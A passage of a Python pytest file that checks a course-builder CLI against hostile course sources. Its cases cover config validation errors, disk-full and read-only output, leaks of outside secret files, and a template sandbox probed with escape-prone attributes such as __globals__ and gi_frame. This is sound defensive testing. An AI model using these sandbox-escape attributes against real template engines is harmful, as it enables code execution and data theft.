    case("negative-points", Replace(WINDOW, "points: 2", "points: -5"),
         expect=failed(f"tiny/{WINDOW}:14:17: error: 'points' must be from 0 to 1000, got -5")),
    case("absurd-duration", Replace(INTRO, "duration: 10", "duration: 99999"),
         expect=failed(f"tiny/{INTRO}:5:11: error: 'duration' must be from 1 to 1440, got 99999")),
    case("merge-keys-work", Replace("course.yaml", "completion:\n  pages: all\n", "completion:\n  <<: {pages: all}\n"),
         code=0, expect=()),
    case("question-type-typo-no-template-echo", DEFAULT_THEME, Replace(CHECK, "type: single", "type: essay"),
         expect=failed(f"tiny/{CHECK}:7:11: error: 'type' must be one of: single, multiple, true-false, fill-in, "
                       "matching, ordering, categorisation, hotspot (got 'essay')")),
    case("kind-typo-no-template-echo", DEFAULT_THEME, Replace(FINAL, "kind: assessment", "kind: assesment"),
         expect=failed(f"tiny/{FINAL}:2:7: error: 'kind' must be one of: knowledge-check, assessment (got "
                       "'assesment') (did you mean 'assessment'?)")),
]


# --- running a case ---------------------------------------------------------------------------------

def make_folder(tmp_path: Path) -> Path:
    """tmp/courses/tiny, tmp/themes/plain and tmp/outside/ with its secrets; returns tmp/courses/tiny."""
    course = tmp_path / "courses" / "tiny"
    shutil.copytree(TINY, course)
    shutil.copytree(PLAIN, tmp_path / "themes" / "plain")
    for name, text in OUTSIDE_FILES.items():
        path = tmp_path / "outside" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return course


def run_course(args: tuple[str, ...], cwd: Path, limit_file_bytes: int | None = None) -> subprocess.CompletedProcess:
    """The real command, in a process of its own, killed (and the case failed) past BUDGET seconds."""
    def limit() -> None:
        if limit_file_bytes is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit_file_bytes, limit_file_bytes))

    return subprocess.run([sys.executable, "-c", "from builder.cli import run; run()", *args], cwd=cwd,
                          capture_output=True, text=True, timeout=BUDGET, preexec_fn=limit,
                          env={**os.environ, "COLUMNS": "200"})


def output_bytes(folder: Path) -> dict[str, bytes]:
    """Every file under `folder`, and every member of every zip there, by name."""
    found: dict[str, bytes] = {}
    for path in sorted(folder.rglob("*")) if folder.is_dir() else []:
        if path.is_file():
            found[path.relative_to(folder).as_posix()] = path.read_bytes()
            if path.suffix == ".zip":
                with zipfile.ZipFile(path) as zipped:
                    found.update({f"{path.name}!{n}": zipped.read(n) for n in zipped.namelist()})
    return found


def mount_output(item: Case, out: Path) -> None:
    """A real small file system for the output (root ignores permission bits; a file system does not):
    a good build, then, for "disk-full", a file filling the rest; for "read-only", mounted read-only."""
    out.mkdir()
    size = "64k"
    if subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(out)],
                      capture_output=True).returncode != 0:
        pytest.skip("mounting a small file system needs root with CAP_SYS_ADMIN; this machine refuses it")
    MOUNTED.append(out)
    assert run_course(("build", "tiny", "--out", "out"), out.parent).returncode == 0
    if item.id == "disk-full":
        descriptor = os.open(out / "filler", os.O_WRONLY | os.O_CREAT)
        try:
            while os.write(descriptor, b"x" * 1024):
                pass
        except OSError:
            pass
        finally:
            os.close(descriptor)
    else:
        subprocess.run(["mount", "-o", "remount,ro", str(out)], check=True)


MOUNTED: list[Path] = []
LOCKED: list[Path] = []


@pytest.fixture(autouse=True)
def unmount() -> Iterator[None]:
    yield
    while MOUNTED:
        subprocess.run(["umount", str(MOUNTED.pop())], capture_output=True)
    while LOCKED:
        subprocess.run(["chattr", "-i", str(LOCKED.pop())], capture_output=True)


def run_case(item: Case, tmp_path: Path) -> tuple[subprocess.CompletedProcess, Path]:
    course = make_folder(tmp_path)
    here = course.parent
    if item.needs_mount:
        mount_output(item, here / "out")
    elif item.prebuild:
        assert run_course(("build", "tiny", "--out", "out"), here).returncode == 0
    for patch in item.patches:
        patch.apply(course)
    if item.locked:
        if subprocess.run(["chattr", "+i", str(here / "out")], capture_output=True).returncode != 0:
            pytest.skip("making a folder immutable needs chattr and CAP_LINUX_IMMUTABLE; this machine refuses it")
        LOCKED.append(here / "out")
    before = output_bytes(here / "out")
    result = run_course(item.command, here, item.limit_file_bytes)
    if item.prebuild and result.returncode != 0:
        assert output_bytes(here / "out") == before, "a failed command changed the previous output"
    return result, here


@pytest.mark.parametrize("item", [pytest.param(c, id=c.id, marks=c.marks) for c in CASES])
def test_hostile_source_does_no_harm(item: Case, tmp_path: Path) -> None:
    result, here = run_case(item, tmp_path)
    lines = result.stderr.replace(str(tmp_path), "TMP").splitlines()
    assert "Traceback" not in result.stderr, result.stderr
    assert (result.returncode, lines) == (item.code, list(item.expect)), result.stderr
    assert not (here / PROOF).exists() and not (tmp_path / PROOF).exists(), "a command ran"
    assert MARKER not in result.stdout + result.stderr
    leaked = [name for name, data in output_bytes(here / "out").items() if MARKER.encode() in data]
    assert leaked == [], "files from outside the course reached the output"
    if item.after is not None:
        item.after(here)


def test_there_are_at_least_sixty_cases() -> None:
    assert len(CASES) >= 60


def test_the_sandbox_answers_as_jinja_does_for_every_type_and_attribute_asked_again() -> None:
    """The templates' sandbox remembers whether an attribute may be read, by the object's type and the
    attribute's name: each answer must be the one Jinja's own sandbox gives, the second time too, and
    an attribute safe on one type must stay unsafe on another."""
    import jinja2.sandbox

    from builder.theme import _Sandbox

    @dataclass
    class Card:
        append: str = "a field of a view, named as a list's method"
        title: str = "a title"

    ours, jinja = _Sandbox(), jinja2.sandbox.ImmutableSandboxedEnvironment()
    objects = [Card(), [], {}, set(), "", 1, str, lambda: 0, (x for x in ()), Path(".")]
    names = ["append", "title", "pop", "update", "clear", "mro", "__class__", "_hidden", "__globals__",
             "gi_frame", "items", "format", "__init__"]
    for _ in range(2):
        for obj in objects:
            for name in names:
                value = getattr(obj, name, None)
                assert ours.is_safe_attribute(obj, name, value) == jinja.is_safe_attribute(obj, name, value), \
                    (type(obj).__name__, name)
    assert ours.is_safe_attribute(Card(), "append", "x") and not ours.is_safe_attribute([], "append", [].append)
